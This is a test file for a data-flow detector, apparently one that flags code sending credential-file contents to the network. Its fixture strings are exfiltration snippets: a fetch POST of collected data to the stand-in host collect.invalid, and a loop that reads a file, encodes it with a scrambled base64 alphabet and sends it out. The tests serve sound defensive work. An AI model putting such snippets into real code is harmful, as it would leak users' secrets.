import assert from 'node:assert/strict';
import { flowsOf } from '../platform/sent.js';

const SENT = ['credential-file>network@collect.invalid'];
const SEND = `fetch('https://collect.invalid', { method: 'POST', body: [...found].join() });`;

describe('collections', () => {
  it('have a size, which may be any where it is not known what was put into them', () => {
    for (const make of [
      `const found = new Set(s.split(' '));`,
      `const found = new Set(); s.split(' ').forEach((w) => { if (/token/.test(w)) found.add(w); });`,
      `const found = new Map(); for (const w of s.split(' ')) found.set(w, 1);`,
    ])
      assert.deepEqual([...new Set(flowsOf(`${make} if (found.size > 0) ${SEND}`))], SENT, make);
    assert.deepEqual(flowsOf(`const found = new Set([s]); if (found.size > 1) ${SEND}`), []);
  });

  it('of words that were decoded have a size that is known, as decoders rely on it; of what comes in they have none', () => {
    const handler = (pushed: string): readonly string[] =>
      flowsOf(
        `const found = []; exports.on = () => { if (found.push(${pushed}) === 2) ${SEND.replace('[...found].join()', 's')} };`,
      );
    assert.deepEqual(handler(`atob('aGVsbG8gd29ybGQ=')`), []);
    assert.deepEqual(handler(`s + 1`), SENT);
  });

  it('spell something by their letters', () => {
    const spell = (alphabet: string): readonly string[] =>
      flowsOf(`const A = ${alphabet}; let found = ''; for (let i = 0, n = 0, acc = 0, b = fs.readFileSync(rc); i < b.length; i++) {
        acc = (acc << 8) | b[i]; n += 8; while (n >= 6) { n -= 6; found += A[(acc >> n) & 63]; } } ${SEND}`);
    assert.deepEqual(spell(`'ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210-_'`), SENT);
    assert.deepEqual(spell(`'ZYXWVUTSRQPONMLKJIHGFEDCBA'.split('')`), SENT);
  });
});
